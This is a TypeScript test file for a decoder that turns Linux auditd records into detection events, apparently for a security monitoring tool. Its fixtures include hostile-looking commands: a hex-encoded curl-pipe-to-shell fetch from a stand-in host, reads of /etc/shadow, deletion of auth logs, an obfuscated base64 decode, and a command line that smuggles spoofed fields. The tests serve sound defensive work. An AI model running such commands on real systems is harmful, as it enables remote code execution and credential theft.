// Audit records joined into events: what each kind of event says, and in which order lines may come.
import fc from "fast-check";
import { describe, expect, it } from "vitest";
import type { RuntimeEvent } from "../event.ts";
import { auditd } from "./auditd.ts";

const receivedAt = Date.UTC(2026, 10, 22, 12);

function decode(lines: readonly string[]) {
  const session = auditd.open({ receivedAt, host: "web-1", settings: {} });
  const pushed = lines.map((line, place) => session.push(line, `line ${place + 1}`));
  const all = [...pushed, session.end()];
  return { events: all.flatMap(({ events }) => events), rejects: all.flatMap(({ rejects }) => rejects) };
}

const one = (...lines: string[]): RuntimeEvent => { const { events, rejects } = decode(lines); expect([events.length, rejects]).toEqual([1, []]); return events[0] as RuntimeEvent; };

const call = (serial: number, what: string, more = "", seconds = 1_700_000_000): string => `type=SYSCALL msg=audit(${seconds}.123:${serial}): arch=c000003e ${what} success=yes exit=0 a0=1 a1=2 a2=3 a3=4 items=2 ppid=10 pid=11 auid=1000 uid=0 gid=0 euid=0 tty=pts0 ses=1 comm="x" exe="/usr/bin/x" key="k"${more}`;
const record = (type: string, serial: number, values: string): string => `type=${type} msg=audit(1700000000.123:${serial}): ${values}`;

describe("runtime/decoders/auditd: a process", () => {
  const event = one(
    call(1, "syscall=59", '\u001dARCH=x86_64 SYSCALL=execve AUID="bob" UID="root"'),
    record("EXECVE", 1, 'argc=3 a0="sh" a1="-c" a2=6375726C202D7320687474703A2F2F612F207C207368'),
    record("CWD", 1, 'cwd="/tmp"'),
    record("PATH", 1, 'item=0 name="/bin/sh" inode=1 nametype=NORMAL'),
    record("PROCTITLE", 1, "proctitle=7368002D63006375726C"),
  );

  it("is one event, asked as a process and as auditd's own", () => {
    expect([event.logsource, event.at, event.id, event.origin]).toEqual([{ category: "process_creation", product: "linux", service: "auditd" }, 1_700_000_000_123, "audit:web-1:1700000000.123:1", { host: "web-1" }]);
  });

  it("has the taxonomy's names", () => {
    expect(event.fields).toMatchObject({ Image: "/usr/bin/x", CommandLine: "sh -c curl -s http://a/ | sh", ProcessId: "11", ParentProcessId: "10", User: "root", LoginUser: "bob", CurrentDirectory: "/tmp" });
  });

  it("has auditd's names, the arguments where rules look for them", () => {
    expect(event.fields).toMatchObject({ type: ["SYSCALL", "EXECVE", "CWD", "PATH", "PROCTITLE"], SYSCALL: "execve", syscall: ["execve", "59"], a0: "sh", a2: "curl -s http://a/ | sh", name: "/bin/sh", key: "k", exe: "/usr/bin/x", proctitle: "sh -c curl" });
  });

  it("a long argument comes in parts", () => {
    expect(one(call(2, "syscall=59"), record("EXECVE", 2, 'argc=2 a0="x" a1_len=6 a1[0]="abc" a1[1]="def"')).fields).toMatchObject({ a1: "abcdef", CommandLine: "x abcdef" });
  });

  it("one that failed is no process", () => {
    expect(one(call(3, "syscall=59").replace("success=yes", "success=no")).logsource).toEqual({ product: "linux", service: "auditd" });
  });

  it("numbers of aarch64 are its own", () => {
    expect(one(call(4, "syscall=221").replace("c000003e", "c00000b7")).fields["SYSCALL"]).toBe("execve");
  });
});

describe("runtime/decoders/auditd: files, addresses, logins", () => {
  it.each([
    ["a file made", "syscall=257", 'item=0 name="new.txt" nametype=CREATE', "file_event", "/srv/new.txt"],
    ["a file opened to be written", "syscall=2 a1=1", 'item=0 name="/etc/passwd" nametype=NORMAL', "file_event", "/etc/passwd"],
    ["a file read", "syscall=257 a2=0", 'item=0 name="/etc/shadow" nametype=NORMAL', "file_access", "/etc/shadow"],
    ["a file deleted", "syscall=263", 'item=0 name="/var/log/auth.log" nametype=DELETE', "file_delete", "/var/log/auth.log"],
    ["rights changed", "syscall=90", "item=0 name=2F746D702F61206220C3BC nametype=NORMAL", "file_event", "/tmp/a b \u00fc"],
  ])("%s", (_case, what, path, category, target) => {
    // The first value of a name counts, so the call's own flags go in front.
    const event = one(call(5, what), record("CWD", 5, 'cwd="/srv"'), record("PATH", 5, 'item=1 name="/srv" nametype=PARENT'), record("PATH", 5, path));
    expect([event.logsource.category, event.fields["TargetFilename"]]).toEqual([category, target]);
  });

  it.each([
    ["connect, IPv4", 42, "02000050CB0071090000000000000000", { DestinationIp: "203.0.113.9", DestinationPort: "80", Initiated: "true" }, "network_connection"],
    ["connect, IPv6", 42, "0A0001BB0000000020010DB800000000000000000000000700000000", { DestinationIp: "2001:db8::7", DestinationPort: "443" }, "network_connection"],
    ["accept", 43, "0200C350CB0071090000000000000000", { SourceIp: "203.0.113.9", SourcePort: "50000", Initiated: "false" }, "network_connection"],
    ["bind", 49, "02001F90000000000000000000000000", { SourcePort: "8080" }, "network_listen"],
    ["a local socket", 42, "01002F72756E2F782E736F636B00", {}, undefined],
  ])("%s", (_case, number, saddr, fields, category) => {
    const event = one(call(6, `syscall=${number}`), record("SOCKADDR", 6, `saddr=${saddr}`));
    expect([event.logsource.category, event.fields]).toEqual([category, expect.objectContaining(fields)]);
  });

  it("a login that failed", () => {
    const event = one("type=USER_LOGIN msg=audit(1700000000.123:7): pid=1 uid=0 auid=4294967295 ses=4294967295 msg='op=login acct=\"root\" exe=\"/usr/sbin/sshd\" hostname=? addr=203.0.113.9 terminal=ssh res=failed'");
    expect([event.logsource.category, event.fields]).toEqual(["authentication", expect.objectContaining({ User: "root", SourceIp: "203.0.113.9", outcome: "failure", type: "USER_LOGIN", exe: "/usr/sbin/sshd" })]);
  });

  it("what sudo ran", () => {
    expect(one("type=USER_CMD msg=audit(1700000000.123:8): pid=1 uid=1000 auid=1000 ses=1 msg='cwd=\"/home/bob\" cmd=6361742F6574632F736861646F77 terminal=pts/0 res=success'").fields).toMatchObject({ CommandLine: "cat/etc/shadow", CurrentDirectory: "/home/bob", outcome: "success" });
  });
});

describe("runtime/decoders/auditd: lines as they come", () => {
  const [a1, a2, b1, b2] = [call(1, "syscall=59"), record("EXECVE", 1, 'argc=1 a0="a"'), call(2, "syscall=59"), record("EXECVE", 2, 'argc=1 a0="b"')];

  it("records of two events may be mixed", () => {
    expect(decode([a1, b1, b2, a2]).events.map(({ fields }) => fields["CommandLine"])).toEqual(["a", "b"]);
  });

  it("the same serial of two hosts is two events", () => {
    expect(decode([`node=one ${a1}`, `node=two ${a1}`]).events.map(({ origin }) => origin.host)).toEqual(["one", "two"]);
  });

  it("an event is given out at its end, or two seconds of its host later", () => {
    const session = auditd.open({ receivedAt, host: undefined, settings: {} });
    expect(session.push(a1, "line 1").events).toEqual([]);
    expect(session.push(call(9, "syscall=59", "", 1_700_000_002), "line 2").events.map(({ id }) => id)).toEqual(["audit::1700000000.123:1"]);
  });

  it.each([
    ["audispd in syslog", `Nov 14 22:13:20 web-1 audispd: node=web-1 ${a1}`],
    ["the kernel's ring buffer", a1.replace("type=SYSCALL msg=", "Nov 14 22:13:20 web-1 kernel: [1.2] audit: type=1300 ")],
  ])("%s", (_case, line) => {
    expect(auditd.recognises(line)).toBe(true);
    expect(one(line).fields).toMatchObject({ SYSCALL: "execve" });
  });

  it("ausearch -i", () => {
    const event = one("type=SYSCALL msg=audit(11/14/2023 22:13:20.123:1) : arch=x86_64 syscall=execve success=yes ppid=10 pid=11 uid=root exe=/usr/bin/x key=k", "type=PROCTITLE msg=audit(11/14/2023 22:13:20.123:1) : proctitle=ls -la /tmp");
    expect([event.at, event.fields["CommandLine"], event.fields["User"]]).toEqual([1_700_000_000_123, "ls -la /tmp", "root"]);
  });

  it("LAUREL", () => {
    const event = one(JSON.stringify({ ID: "1700000000.123:1", SYSCALL: { arch: "0xc000003e", syscall: 59, success: "yes", ppid: 10, pid: 11, uid: 0, exe: "/usr/bin/base64", SYSCALL: "execve", UID: "root", PPID: { exe: "/usr/bin/bash" }, ARGV: ["0x1"] }, EXECVE: { argc: 2, ARGV: ["base64", "-d"] }, PROCTITLE: { ARGV: ["base64", "-d"] } }));
    expect(event.fields).toMatchObject({ CommandLine: "base64 -d", Image: "/usr/bin/base64", ParentImage: "/usr/bin/bash", a1: "-d" });
  });

  it("other lines are refused with their place, separators are not", () => {
    expect(decode(["----", "hello", a1]).rejects.map(({ at }) => at)).toEqual(["line 2"]);
  });

  it("its canary is read by itself", () => {
    expect(JSON.stringify(one(auditd.canary("aftwatch-canary-0123", receivedAt)).fields)).toContain("aftwatch-canary-0123");
  });

  it("no line throws or costs a neighbour its event", () => {
    const noise = fc.array(fc.oneof(fc.constantFrom("type=SYSCALL", "msg=audit(1700000000.123:77):", "a0=", "saddr=02", "msg='", "\"", "cmd=ff", "proctitle=00", "\u001d", "\0", "{\"ID\":\"1.000:1\"", "type=EXECVE", "a1[3]=00"), fc.string({ maxLength: 6 })), { maxLength: 12 }).map((parts) => parts.join(" "));
    fc.assert(fc.property(fc.array(noise, { maxLength: 5 }), (lines) => {
      const { events } = decode([...lines, a1, ...lines, a2]);
      expect(events.some(({ fields }) => fields["CommandLine"] === "a")).toBe(true);
    }), { numRuns: 1000 });
  });
});

describe("runtime/decoders/auditd: auoms", () => {
  // The forms of microsoft/OMS-Auditd-Plugin, values of our own.
  const auoms = (serial: number, tail: string, more = ""): string => `type=AUOMS_EXECVE audit(1700000000.123:${serial}): SchemaVersion="1" auoms_version=2.5.2.0 node=shop-3 arch=x86_64 syscall=execve syscall_r=59 success=yes exit=0 a0=7fcd a1=7fcd a2=7ffc a3=b ppid=10 pid=11 audit_user=unset auid=4294967295 user=tomcat uid=1001 comm="sh" exe="/bin/sh"${more} cwd="/srv" name="/bin/sh" nametype=NORMAL path_name=["/bin/sh","/lib/ld.so"] path_nametype=["NORMAL","NORMAL"] path_mode=["0100755",""] ${tail} redactors= containerid=`;

  it("a line is a whole event, in the words of auditd and of the taxonomy", () => {
    const event = one(auoms(1, 'argc=3 cmdline="sh -c "{echo,eA==}|{base64,-d}""'));
    expect([event.logsource, event.origin]).toEqual([{ category: "process_creation", product: "linux", service: "auditd" }, { host: "shop-3" }]);
    expect(event.fields).toMatchObject({ type: ["SYSCALL", "CWD", "PATH", "EXECVE"], Image: "/bin/sh", CommandLine: "sh -c {echo,eA==}|{base64,-d}", a0: "sh", a2: "{echo,eA==}|{base64,-d}", User: "tomcat", ProcessId: "11", ParentProcessId: "10", CurrentDirectory: "/srv", name: ["/bin/sh", "/lib/ld.so"], SYSCALL: "execve", "host.name": "shop-3" });
    expect(event.fields).not.toHaveProperty("LoginUser");
  });

  it.each([
    ["quotes in quotes", 'sh -c "echo \\"a b\\" \\$x"', ["sh", "-c", 'echo "a b" $x']], ["single quotes", "sh -c 'x!'", ["sh", "-c", "x!"]], ["control characters", "sh -c $'a\\x0ab\\n'", ["sh", "-c", "a\nb\n"]], ["a bare escape", "ls a\\*b", ["ls", "a*b"]], ["an empty one", "ls ''", ["ls", ""]],
  ])("words as bash would read them: %s", (_case, line, words) => {
    const { fields } = one(auoms(2, `argc=${words.length} cmdline="${line}"`));
    expect(words.map((_word, place) => fields[`a${place}`])).toEqual(words);
  });

  it("what a command says cannot pass for what the collector says", () => {
    const { fields, origin } = one(`${auoms(3, 'argc=2 cmdline="sh "exe="/bin/true" pid=1 node=other planted=1" redactors= containerid=ffff"')}0f1d2c3b4a59`);
    expect(fields).toMatchObject({ Image: "/bin/sh", ProcessId: "11", "container.id": "0f1d2c3b4a59" });
    expect(fields).not.toHaveProperty("planted");
    expect(origin).toEqual({ host: "shop-3", containerId: "0f1d2c3b4a59" });
  });

  it("a call that failed has its title, and is no new process", () => {
    const event = one(auoms(4, "proctitle=java -cp /srv/x.jar Main").replace("success=yes", "success=no"));
    expect([event.logsource.category, event.fields["CommandLine"]]).toEqual([undefined, "java -cp /srv/x.jar Main"]);
  });

  it("LAUREL's container is where it was", () => {
    const event = one('{"ID":"1700000000.123:9","SYSCALL":{"SYSCALL":"execve","syscall":59,"success":"yes","pid":2,"ppid":1,"exe":"/bin/sh"},"CONTAINER_INFO":{"ID":"0f1d2c3b4a59"}}');
    expect([event.origin.containerId, event.fields["container.id"]]).toEqual(["0f1d2c3b4a59", "0f1d2c3b4a59"]);
  });
});
